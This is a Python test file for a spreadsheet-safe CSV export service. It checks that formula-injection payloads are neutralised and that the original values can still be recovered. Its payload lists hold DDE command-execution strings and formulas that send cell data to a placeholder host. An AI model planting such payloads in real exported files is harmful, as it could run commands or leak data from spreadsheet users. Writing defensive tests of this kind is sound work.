"""Invariant 23: no cell of a spreadsheet-safe file is one that a spreadsheet would evaluate, and its values are all there.

What a spreadsheet would evaluate is decided here by a model of its own, written without the product's rule: files are read as programs
read them, with commas, semicolons or tabs, with quotes or broken at every line, and each cell is looked at as they look at it.
"""

from __future__ import annotations

import csv
import io
import itertools
import re
import time
import unicodedata
from collections.abc import Iterator, Sequence
from typing import Any

import pyarrow as pa
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from services.query.exports.formulas import defuse, defuse_column
from services.query.exports.safe_csv import write_safe_csv
from services.shared.results import csv_key
from tests.corpora import folder
from tests.query.exports.results import Memory, sheets, stored, texts, workbook, written

_TRIGGERS = "=+-@＝＋－＠﹦﹢﹣﹫−"
_LEADS = [
    "", " ", "  ", "\t", "\n", "\r", "\r\n", "\x00", "\x0b", "\x1f", "\xa0", "\u200b", "\ufeff", "\u3000", "\u2028", "\u202e",
    "'", '"', "''", '""', "`", "“",
    ' "', "\t'", "a;", "a; ", 'a;"', "a\t", "a\n", "a\r\n ", ";", ";;", "a\n\n", '";"', "1;", "-5;", "x|;'", "\u00ad", "'\n", "\x7f",
]  # fmt: skip
_TAILS = [
    "", "1+1", "cmd|' /C calc'!A0", "SUM(1,2)", 'HYPERLINK("http://a.example/?x="&A1,"click")', "10+20;x", "1\n=2", "WEBSERVICE(A1)\t", '"', "'",
    "MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe'!'' ",
]  # fmt: skip
_KNOWN = [
    '=cmd|"/C calc"!A0', "=2+5+cmd|' /C calc'!A0", "@SUM(cmd|'/c calc'!A0)", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!D2",
    ";=cmd|' /C calc'!A0;",
    '=IMPORTXML(CONCAT("http://a.example/?v=",CONCATENATE(A2:E2)),"//a")', "=DDE(\"cmd\";\"/C calc\";\"!A0\")", '"=1+1', "\t=1+1",
    "=1+1\t", "-1-1", "+1+1",
    "=-1", "-@A1", "--1", "+-1", "-=1", "1\t=1", "-1e5+1", "- 1", "+", "-", "=", "@", "-0x10", "-1_000", "-1,5",
    "-١", "+٤٩", "-.", "-e5", "-Infinity", "+NaN",
]  # fmt: skip
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?", re.ASCII)
_WHOLE = st.text(st.characters(exclude_categories=["Cs"]))
_HOSTILE = st.lists(st.sampled_from([*_TRIGGERS, *_LEADS, *_TAILS, "1", "5.5", "-5", "é", "🦀"]), max_size=8).map("".join)


def payloads() -> list[str]:
    """Return the known payloads and every lead before every trigger and tail."""
    corpus = (folder() / "csv-injection" / "csv-payload.txt").read_text().splitlines()
    made = ["".join(parts) for parts in itertools.product(_LEADS, _TRIGGERS, _TAILS)]
    return [*corpus, *_KNOWN, *made]


def evaluated(cell: str) -> bool:
    """Whether a spreadsheet would do more with the cell than show it, blanks and double quotes before it or not."""
    if _NUMBER.fullmatch(cell):
        return False
    shown = next((i for i, c in enumerate(cell) if c != '"' and unicodedata.category(c) not in ("Zs", "Zl", "Zp", "Cc", "Cf")), len(cell))
    first = unicodedata.normalize("NFKC", cell[shown : shown + 1])[:1]
    return first in ("=", "+", "-", "@", "−") if first else False


def read_as(data: str, delimiter: str) -> Iterator[str]:
    """Yield the cells a spreadsheet makes of a file with this delimiter: quotes count only where a cell begins."""
    cell, quoted, i = "", False, 0
    while i < len(data):
        c = data[i]
        if quoted:
            if c == '"' and data[i + 1 : i + 2] == '"':
                cell, i = cell + '"', i + 1
            elif c == '"':
                quoted = False
            else:
                cell += c
        elif c == '"' and cell == "":
            quoted = True
        elif c == delimiter or c in "\r\n":
            yield cell
            cell = ""
        else:
            cell += c
        i += 1
    yield cell


def read_by_line(data: str, delimiter: str) -> Iterator[str]:
    """Yield the cells of a program that breaks a file at every line end and, but for commas, at every delimiter, and takes the quotes off."""
    for line in re.split(r"\r\n|\r|\n", data):
        yield from (cell.strip('"') for cell in ([line] if delimiter == "," else line.split(delimiter)))


def hides(cell: str) -> bool:
    """Whether a cell begins with what a program may drop before it looks."""
    return cell[:1] in ("\t", "\r", "\n", "\x00")


def readings(data: str) -> Iterator[str]:
    """Yield every cell of every reading."""
    for delimiter in (",", ";", "\t"):
        yield from read_as(data, delimiter)
        yield from read_by_line(data, delimiter)


def restored(text: str) -> str:
    """Take away the apostrophes that were added: each that stands where the rule puts one before what follows it."""
    return "".join(c for i, c in enumerate(text) if c != "'" or not _added(text, i))


def _added(text: str, i: int) -> bool:
    if i == 0:
        return defuse(text[1:])[:2] == ("'" + text[1:])[:2] and defuse(text[1:]) != text[1:]
    if text[i - 1] not in ";\t\r\n":
        return False
    piece = re.compile(r"[^;\t\r\n]*[;\t\r\n]?").match(text, i + 1)
    return piece is not None and len(defuse("x;" + piece[0])) > len("x;" + piece[0])


def safe_file(values: Sequence[str | None], name: str = "a") -> str:
    """Return the safe CSV of a column of texts, and of one more before it."""
    return written(write_safe_csv, [texts("n", ["n"] * len(values)), texts(name, values), texts("z", ["z"] * len(values))]).decode()


def test_no_payload_is_evaluated(capsys: pytest.CaptureFixture[str]) -> None:
    """Of all payloads, as cells and as names of columns, in every reading of the CSV and of the workbook, none is evaluated; exact ones are."""
    tried = payloads()
    looked = 0
    for data in (safe_file(tried), *(safe_file(["x"], name) for name in tried[::50])):
        cells = list(readings(data))
        looked += len(cells)
        assert [cell for cell in cells if evaluated(cell)] == []
        assert [cell for cell in read_as(data, ",") if hides(cell)] == []
    book = [cell for row in sheets(workbook([texts("=1+1", tried), texts("n", ["n"] * len(tried))], safe=True))["Result"] for cell in row]
    looked += len(book)
    assert [cell for cell in book if cell is not None and (evaluated(cell) or hides(cell))] == []
    exposed = sum(any(evaluated(cell) for cell in readings(f'"x","{payload}"')) for payload in tried)
    assert exposed > len(tried) * 0.8
    with capsys.disabled():
        print(f"\ninvariant 23: {len(tried)} payloads, {looked} cells looked at, 0 evaluated ({exposed} payloads are in the exact form)")


def test_every_value_can_be_had_back() -> None:
    """Without what was added, each payload is the exact value, in the CSV and in the workbook."""
    tried = payloads()
    rows = list(csv.reader(io.StringIO(safe_file(tried), newline=""), strict=True))[1:]
    assert [restored(row[1]) for row in rows] == tried
    found = [row[0] for row in sheets(workbook([texts("a", tried)], safe=True))["Result"][1:]]
    assert [restored(cell) for cell in found] == tried


@given(st.lists(_HOSTILE | _WHOLE, min_size=1, max_size=8), _HOSTILE)
@example(["'=1", "=1", "''=1", "'-5", "-5", "''-5", "a;'-5", "a;-5", "'\t", "\t", "'\n=1", "\n'=1"], "'=1")
@example([""], "\t-5;")
@settings(max_examples=100, deadline=None)
def test_no_text_is_evaluated_and_every_text_comes_back(values: list[str], name: str) -> None:
    """Whatever the texts are: no reading has a cell that is evaluated, and taking away what was added gives them back."""
    data = safe_file(values, name)
    assert [cell for cell in readings(data) if evaluated(cell)] == []
    assert [cell for cell in read_as(data, ",") if hides(cell)] == []
    header, *rows = csv.reader(io.StringIO(data, newline=""), strict=True)
    assert restored(header[1]) == name
    assert [restored(row[1]) for row in rows] == values


@pytest.mark.parametrize(
    "text", ["", "a", "-5", "+1.5e-3", "-.5", "5.", "x = y", "a-b", "3 - 4", "a, -b", "2026-01-02", "a@b.example", "it's", "1;2", "a\r\nb"]
)
def test_what_is_harmless_stays(text: str) -> None:
    """Numbers, addresses, dates and prose are not touched."""
    assert defuse(text) == text


def test_numbers_stay_numbers() -> None:
    """Columns of numbers are as they were, but for the one value that looks like a formula."""
    exact = pa.array(["-5", None, "-1.0E-7"])
    assert defuse_column(exact, "decimal(5,2)") is exact
    assert defuse_column(pa.array(["-5.5", "-Infinity", "NaN", None]), "double").to_pylist() == ["-5.5", "'-Infinity", "NaN", None]
    assert defuse_column(pa.array(["-0044-03-15", "2026-01-02"]), "date").to_pylist() == ["'-0044-03-15", "2026-01-02"]


def test_nothing_else_changes() -> None:
    """A result without formulas is the same file, byte by byte: NULL bare, the empty text quoted."""
    columns: list[tuple[str, str, Any]] = [texts("a", ["x", None, "", 'q"', "l\nm"]), ("n", "bigint", pa.array([-1, None, 0, 2, 3]))]
    memory = Memory()
    result = stored(columns)
    memory.objects[csv_key("r/")] = result.source.read()
    assert written(write_safe_csv, columns) == memory.objects[csv_key("r/")]


def test_a_long_text_takes_its_length_in_time() -> None:
    """Megabytes of blanks, quotes and breaks before nothing take no square of their length."""
    for text in (
        " " * 4_000_000 + "x",
        "'" * 4_000_000,
        ";" * 2_000_000,
        "\n " * 2_000_000 + "x",
        "; " * 2_000_000 + "=",
        "-" + "1" * 4_000_000 + "x",
    ):
        began = time.process_time()
        defuse_column(pa.array([text]), "string")
        assert time.process_time() - began < 10
